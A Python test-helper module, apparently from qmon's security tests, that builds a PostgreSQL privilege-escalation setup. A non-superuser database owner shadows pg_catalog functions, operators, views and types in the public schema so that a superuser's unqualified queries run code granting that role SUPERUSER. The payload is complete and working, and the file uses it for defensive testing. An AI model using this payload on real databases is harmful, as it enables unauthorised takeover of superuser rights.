"""A role with few rights that tries to get those of a superuser who runs qmon on its database.

The role owns the database and is no superuser. PostgreSQL counts each call of its functions (``track_functions``), also
the calls in transactions that cannot write, so that nothing it planted can run unseen.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import Final

from tests.cli.calling import program, surroundings
from tests.contract.operating import desk_at
from tests.facts import connected, query

MALLORY: Final = "mallory"

# Functions, operators, relations and types of the system gets a twin in a schema that comes first: an unqualified name in SQL
# that qmon or its driver runs resolves to the twin. What cannot be written in PL/pgSQL has no twin.
_TWINS: Final = """
DO $$
DECLARE
    v_each  record;
    v_names text[] := pg_catalog.string_to_array(pg_catalog.current_setting('evil.names'), ',');
BEGIN
    FOR v_each IN
        SELECT p.oid, p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS arguments,
               pg_catalog.pg_get_function_result(p.oid) AS result, p.provolatile, p.pronargs
        FROM pg_catalog.pg_proc AS p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0
            AND (p.proname = ANY (v_names) OR p.oid IN (SELECT o.oprcode FROM pg_catalog.pg_operator AS o))
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql %s AS %L',
                v_each.proname, v_each.arguments, v_each.result,
                CASE v_each.provolatile WHEN 'i' THEN 'IMMUTABLE' WHEN 's' THEN 'STABLE' ELSE 'VOLATILE' END,
                'BEGIN PERFORM evil.run(); RETURN NULL; END');
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
    END LOOP;
    FOR v_each IN
        SELECT o.oprname, pg_catalog.format_type(o.oprleft, NULL) AS of_left, o.oprleft,
               pg_catalog.format_type(o.oprright, NULL) AS of_right, f.proname
        FROM pg_catalog.pg_operator AS o
        JOIN pg_catalog.pg_proc AS f ON f.oid = o.oprcode
        WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprright <> 0
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE OPERATOR public.%s (FUNCTION = public.%I, %s RIGHTARG = %s)', v_each.oprname, v_each.proname,
                CASE WHEN v_each.oprleft = 0 THEN '' ELSE 'LEFTARG = ' || v_each.of_left || ',' END, v_each.of_right);
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
    END LOOP;
    FOR v_each IN
        SELECT c.relname FROM pg_catalog.pg_class AS c
        WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE VIEW public.%I AS SELECT t.* FROM pg_catalog.%I AS t WHERE evil.run() IS NULL',
                v_each.relname, v_each.relname);
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
    END LOOP;
    FOREACH v_each.relname IN ARRAY ARRAY['regclass', 'oid', 'name', 'float8', 'int4', 'int8', 'text', 'bool', 'json',
                                          'timestamptz', 'interval', 'numeric', 'xid', 'tid', 'bytea', 'bigint']
    LOOP
        EXECUTE pg_catalog.format('CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (evil.run() IS NULL)',
                                  v_each.relname, pg_catalog.replace(v_each.relname, 'bigint', 'int8'));
    END LOOP;
    EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = public, pg_catalog', pg_catalog.current_database());
END
$$
"""
# It returns nothing, so that whoever compares with what it returns goes on; it takes what it can get.
_EVIL: Final = f"""
CREATE SCHEMA evil;
CREATE FUNCTION evil.run() RETURNS pg_catalog.text LANGUAGE plpgsql AS $$
BEGIN
    IF pg_catalog.current_setting('transaction_read_only') = 'off' THEN
        ALTER ROLE {MALLORY} SUPERUSER;
    END IF;
    RETURN NULL;
EXCEPTION WHEN OTHERS THEN
    RETURN NULL;
END
$$;
GRANT USAGE ON SCHEMA evil TO PUBLIC
"""


@contextlib.contextmanager
def owned_by_mallory(url: str) -> Iterator[str]:
    """The database's URL for a role that owns it and is no superuser; the role is dropped at the end."""
    query(url, f"CREATE ROLE {MALLORY} LOGIN")
    name = query(url, "SELECT pg_catalog.current_database()")[0][0]
    query(url, f"ALTER DATABASE {name} OWNER TO {MALLORY}")
    query(url, f"ALTER DATABASE {name} SET track_functions = 'all'")
    query(url, f"ALTER SCHEMA public OWNER TO {MALLORY}")
    theirs = url.replace("postgres@", f"{MALLORY}@", 1)
    query(theirs, _EVIL)
    try:
        yield theirs
    finally:
        query(url, f"ALTER DATABASE {name} OWNER TO postgres")
        query(url, f"SET search_path = pg_catalog; DROP OWNED BY {MALLORY} CASCADE; DROP ROLE {MALLORY}")


def plant_twins(theirs: str, names: Iterable[str]) -> int:
    """Plant twins of the functions with these names and of all operators; returns how many functions there are."""
    with connected(theirs) as raw:
        raw.execute("SET search_path = pg_catalog")
        raw.execute("SELECT set_config('evil.names', ?, false)", ",".join(names)).fetchall()
        raw.execute(_TWINS)
        counted = "SELECT count(*) FROM pg_proc WHERE pronamespace = 'public'::regnamespace"
        return int(raw.execute(counted).fetchval())


def evil_calls(url: str) -> int:
    """How many times functions of theirs were called so far, by sessions that have ended."""
    with connected(url) as raw:
        raw.execute("SET search_path = pg_catalog")
        counted = "SELECT coalesce(sum(calls), 0) FROM pg_stat_user_functions WHERE schemaname = 'evil'"
        return int(raw.execute(counted).fetchval())


def is_superuser(url: str) -> bool:
    """Whether the role has become what it must not."""
    with connected(url) as raw:
        raw.execute("SET search_path = pg_catalog")
        return bool(raw.execute("SELECT rolsuper FROM pg_roles WHERE rolname = ?", MALLORY).fetchval())
